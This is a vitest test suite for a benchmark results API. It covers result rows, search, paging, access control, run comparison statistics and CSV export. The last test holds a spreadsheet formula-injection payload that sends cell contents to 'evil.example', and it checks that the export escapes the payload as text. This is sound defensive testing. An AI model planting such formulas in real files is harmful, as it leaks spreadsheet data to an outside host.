import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type {
  EvaluationRunJson,
  ResultDetailJson,
  ResultRowJson,
  RunComparisonJson,
} from "@/lib/benchmarks/benchmark-contract";
import { type BenchmarkSampleRecord, findBenchmarkSamples } from "@/lib/db/benchmark-subsets";
import type { Database } from "@/lib/db/open-database";
import { saveSimilarityVotes } from "@/lib/db/similarity-votes";
import { writeDemoBenchmark } from "@/lib/demo/write-demo-benchmark";
import { toResultRow, toResultsFile } from "@/lib/preferthinker/results-format";
import { importBenchmarkFolder } from "@/test/fixtures/benchmark-imports";
import { setEnvironmentForSuite } from "@/test/fixtures/environment";
import { createPersonWithRoles } from "@/test/fixtures/people";
import { callRoute } from "@/test/route-harness";
import { openTestDatabase } from "@/test/test-databases";

/** Browsing a run's results (compact rows, text search, one result in full) and comparing two runs of a subset. */

const dataDir = mkdtempSync(join(tmpdir(), "studio-benchmark-browse-"));
const demo = join(dataDir, "demo");
let database: Database;
let session: string;
let otherSession: string;
const subsets: Record<string, string> = {};
let samples: BenchmarkSampleRecord[];

const routes = {
  results: () => import("@/app/api/benchmarks/subsets/[id]/results/route"),
  rows: () => import("@/app/api/benchmarks/runs/[id]/results/route"),
  detail: () => import("@/app/api/benchmarks/results/[id]/route"),
  compare: () => import("@/app/api/benchmarks/compare/route"),
  exportRun: () => import("@/app/api/benchmarks/runs/[id]/export/route"),
};

const other = (label: string) => (label === "Image A" ? "Image B" : "Image A");
const output = (answer: string, note = "short") =>
  `<visual preference profile>\n"Color": "yellow hues"\n</visual preference profile>\n<visual non-preference profile>\n"Color": "orange hues"\n</visual non-preference profile>\n<think>\n${note}\n</think>\n<answer>${answer}</answer>`;

/** Imports a results file for the subset where sample i is answered right when `right(i)`. */
async function importRun(
  subsetName: string,
  model: string,
  right: (index: number) => boolean,
  note?: (index: number) => string,
): Promise<EvaluationRunJson> {
  const subsetSamples = await findBenchmarkSamples(database, subsets[subsetName]!);
  const rows = subsetSamples.map((sample) =>
    toResultRow(
      { imageA: sample.imageAPath, imageB: sample.imageBPath, question: "", label: sample.label },
      output(right(sample.index) ? sample.label : other(sample.label), note?.(sample.index)),
    ),
  );
  const id = subsets[subsetName]!;
  const response = await callRoute(
    await routes.results(),
    "POST",
    `/api/benchmarks/subsets/${id}/results?model=${model}`,
    { sessionToken: session, params: { id }, body: toResultsFile(rows) },
  );
  expect(response.status).toBe(201);
  return ((await response.json()) as { run: EvaluationRunJson }).run;
}

async function getRows(runId: string, query = "", token = session) {
  const response = await callRoute(await routes.rows(), "GET", `/api/benchmarks/runs/${runId}/results${query}`, {
    sessionToken: token,
    params: { id: runId },
  });
  return {
    status: response.status,
    body: (await response.json()) as {
      results: ResultRowJson[];
      next: number | null;
      error: { code: string; message: string };
    },
  };
}

async function compare(a: string, b: string) {
  const response = await callRoute(await routes.compare(), "GET", `/api/benchmarks/compare?a=${a}&b=${b}`, {
    sessionToken: session,
  });
  return {
    status: response.status,
    body: (await response.json()) as RunComparisonJson & { error: { code: string; message: string } },
  };
}

setEnvironmentForSuite({ DATA_DIR: dataDir, DEMO_DIR: demo });
beforeAll(async () => {
  await writeDemoBenchmark(demo, { sizes: { TEST_SP_ID: 10, TEST_SP_OD: 2 } });
  database = await openTestDatabase("embedded");
  session = (await createPersonWithRoles(database, "researcher@example.com", ["researcher"])).sessionToken;
  otherSession = (await createPersonWithRoles(database, "other@example.com", ["researcher"])).sessionToken;
  Object.assign(subsets, await importBenchmarkFolder(session, demo, ["TEST_SP_ID", "TEST_SP_OD"]));
  samples = await findBenchmarkSamples(database, subsets.TEST_SP_ID!);
}, 60_000);

afterAll(async () => {
  await database.close();
  rmSync(dataDir, { recursive: true, force: true });
});

describe("a run's results as rows", () => {
  it("lists every result in the official order with the answer the parser read", async () => {
    const run = await importRun(
      "TEST_SP_ID",
      "rows",
      (index) => index % 2 === 0,
      (index) => (index === 3 ? "100% sure_of it" : "short"),
    );
    const { status, body } = await getRows(run.id);
    expect(status).toBe(200);
    expect(body.results).toHaveLength(10);
    expect(body.results.map((row) => row.officialOrder)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
    for (const row of body.results) {
      const sample = samples.find((candidate) => candidate.id === row.sampleId)!;
      expect(row).toMatchObject({
        sampleIndex: sample.index,
        label: sample.label,
        strictCorrect: sample.index % 2 === 0,
        formatValid: true,
      });
      // The outputs give no scores.
      expect(row.issueCodes).toContain("missing-score");
      expect(row.answer).toBe(sample.index % 2 === 0 ? sample.label : other(sample.label));
    }

    // Text search: any case, and LIKE's wildcards are plain characters.
    const found = await getRows(run.id, "?q=" + encodeURIComponent("100% SURE_of"));
    expect(found.body.results.map((row) => row.sampleIndex)).toEqual([3]);
    expect((await getRows(run.id, "?q=" + encodeURIComponent("1_0%"))).body.results).toEqual([]);
    expect((await getRows(run.id, "?q=" + encodeURIComponent("yellow"))).body.results).toHaveLength(10);
  });

  it("comes in pages after a place in the official order, the last page saying there is no next", async () => {
    const run = await importRun("TEST_SP_ID", "paged", (index) => index < 5);
    const whole = await getRows(run.id);
    expect(whole.body.next).toBeNull();
    const pages: ResultRowJson[][] = [];
    let after: number | null | undefined;
    do {
      const page = await getRows(run.id, `?limit=4${after === undefined ? "" : `&after=${after}`}`);
      expect(page.status).toBe(200);
      pages.push(page.body.results);
      after = page.body.next;
    } while (after !== null && pages.length < 10);
    expect(pages.map((page) => page.length)).toEqual([4, 4, 2]);
    expect(pages.flat()).toEqual(whole.body.results);
    // A search pages the same way, over the matching rows alone.
    const searched = await getRows(run.id, "?q=short&limit=3&after=2");
    expect(searched.body.results.map((row) => row.officialOrder)).toEqual([3, 4, 5]);
    expect(searched.body.next).toBe(5);

    const refused = await getRows(run.id, "?limit=0");
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toMatch(/limit: must be 1-5000/);
  });

  it("carries DreamSim's stored vote for each sample, null before one is stored", async () => {
    const run = await importRun("TEST_SP_ID", "voted", () => true);
    const first = (await getRows(run.id)).body.results[0]!;
    expect(first.dreamsimVote).toBeNull();
    await saveSimilarityVotes(database, run.id, [
      {
        sampleId: first.sampleId,
        vote: "tie",
        distances: { a: { liked: [0.5], disliked: [0.5] }, b: { liked: [0.5], disliked: [0.5] } },
        modelVersion: "test@0",
      },
    ]);
    const rows = (await getRows(run.id)).body.results;
    expect(rows.find((row) => row.id === first.id)?.dreamsimVote).toBe("tie");
    expect(rows.filter((row) => row.dreamsimVote !== null)).toHaveLength(1);
  });

  it("is the owner's: another researcher finds no such run", async () => {
    const run = await importRun("TEST_SP_ID", "private", () => true);
    const { status, body } = await getRows(run.id, "", otherSession);
    expect(status).toBe(404);
    expect(body.error.code).toBe("not_found");
  });
});

describe("one result in full", () => {
  it("shows the output, its reading, the sample and the profile's similarity to the true one", async () => {
    const run = await importRun("TEST_SP_ID", "detail", () => false);
    const row = (await getRows(run.id)).body.results[0]!;
    const response = await callRoute(await routes.detail(), "GET", `/api/benchmarks/results/${row.id}`, {
      sessionToken: session,
      params: { id: row.id },
    });
    expect(response.status).toBe(200);
    const detail = (await response.json()) as ResultDetailJson;
    const sample = samples.find((candidate) => candidate.id === row.sampleId)!;
    expect(detail.result).toMatchObject({
      id: row.id,
      runId: run.id,
      strictCorrect: false,
      answer: other(sample.label),
    });
    expect(detail.result.output).toContain("<answer>");
    expect(detail.result.profiles.preference).toEqual([{ Color: "yellow hues" }]);
    // The output gives no scores: the reading names what is missing.
    expect(detail.result.issues.map((issue) => issue.code)).toContain("missing-score");
    expect(detail.sample).toMatchObject({
      index: sample.index,
      label: sample.label,
      imageAId: sample.imageAId,
      preferredImageIds: sample.preferredImageIds,
    });
    expect(detail.sample.preferAttributes?.Color).toBeTruthy();
    // The demo's true profile names a colour; the output names yellow: the figure is there, between 0 and 1.
    const colour = detail.profileSimilarity?.preference.Color;
    expect(colour).not.toBeUndefined();
    expect(detail.profileSimilarity?.preference["Art Styles"]).toBeNull();
    expect(detail.profileSimilarity?.method).toMatch(/word overlap/);
  });

  it("is not found for someone else or for an id that is not one", async () => {
    const run = await importRun("TEST_SP_ID", "hidden", () => true);
    const row = (await getRows(run.id)).body.results[0]!;
    const theirs = await callRoute(await routes.detail(), "GET", `/api/benchmarks/results/${row.id}`, {
      sessionToken: otherSession,
      params: { id: row.id },
    });
    expect(theirs.status).toBe(404);
    const nonsense = await callRoute(await routes.detail(), "GET", "/api/benchmarks/results/nope", {
      sessionToken: session,
      params: { id: "nope" },
    });
    expect(nonsense.status).toBe(404);
  });
});

describe("comparing two runs", () => {
  it("lists the flips both ways and tests the difference", async () => {
    // A is right on samples 0-7; B on 2-9: 0 and 1 go right to wrong, 8 and 9 wrong to right.
    const a = await importRun("TEST_SP_ID", "model-a", (index) => index <= 7);
    const b = await importRun("TEST_SP_ID", "model-b", (index) => index >= 2);
    const { status, body } = await compare(a.id, b.id);
    expect(status).toBe(200);
    expect(body).toMatchObject({ paired: 10, bothRight: 6, bothWrong: 0, subset: { name: "TEST_SP_ID" } });
    expect(body.rightToWrong.map((flip) => flip.sampleIndex)).toEqual([0, 1]);
    expect(body.wrongToRight.map((flip) => flip.sampleIndex)).toEqual([8, 9]);
    expect(body.a.accuracy).toMatchObject({ successes: 8, n: 10 });
    expect(body.difference).toBeCloseTo(0, 12);
    expect(body.mcnemar).toMatchObject({ b: 2, c: 2, pValue: 1 });
    // Two flips each way around a difference of zero: the paired bootstrap's interval straddles it, and says how it was made.
    expect(body.differenceInterval!.low).toBeLessThan(0);
    expect(body.differenceInterval!.high).toBeGreaterThan(0);
    expect(body.differenceInterval!.method).toMatch(/paired bootstrap .*10,000 resamples, seed 42/);

    const better = await importRun("TEST_SP_ID", "model-c", () => true);
    const worse = await importRun("TEST_SP_ID", "model-d", () => false);
    const clear = (await compare(worse.id, better.id)).body;
    expect(clear.wrongToRight).toHaveLength(10);
    expect(clear.difference).toBeCloseTo(1, 12);
    // Every sample flipped toward B: every resample gives B ahead by all of them.
    expect(clear.differenceInterval).toMatchObject({ low: 1, high: 1, level: 0.95 });
    // 0 against 10: exactly 2 / 1024.
    expect(clear.mcnemar.pValue).toBeCloseTo(2 / 1024, 12);
  });

  it("refuses runs of different subsets, and a run against itself", async () => {
    const a = await importRun("TEST_SP_ID", "one", () => true);
    const b = await importRun("TEST_SP_OD", "two", () => true);
    const mixed = await compare(a.id, b.id);
    expect(mixed.status).toBe(400);
    expect(mixed.body.error.message).toMatch(/same subset/);
    expect((await compare(a.id, a.id)).status).toBe(400);
  });
});

describe("the CSV export", () => {
  it("shows a model's answer that looks like a formula as text, so a spreadsheet never runs it", async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Image A")';
    const rigged = await importRun("TEST_SP_OD", "rigged", () => true);
    // The answer block of every output of this run is the formula.
    await database.prisma.evaluationResult.updateMany({
      where: { runId: rigged.id },
      data: { output: output(formula) },
    });
    const response = await callRoute(
      await routes.exportRun(),
      "GET",
      `/api/benchmarks/runs/${rigged.id}/export?format=csv`,
      { sessionToken: session, params: { id: rigged.id } },
    );
    expect(response.status).toBe(200);
    const lines = (await response.text()).trim().split("\r\n");
    expect(lines).toHaveLength(3);
    for (const line of lines.slice(1)) {
      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Image A"")"`);
      expect(line.split(",").some((cell) => cell.startsWith("="))).toBe(false);
    }
  });
});
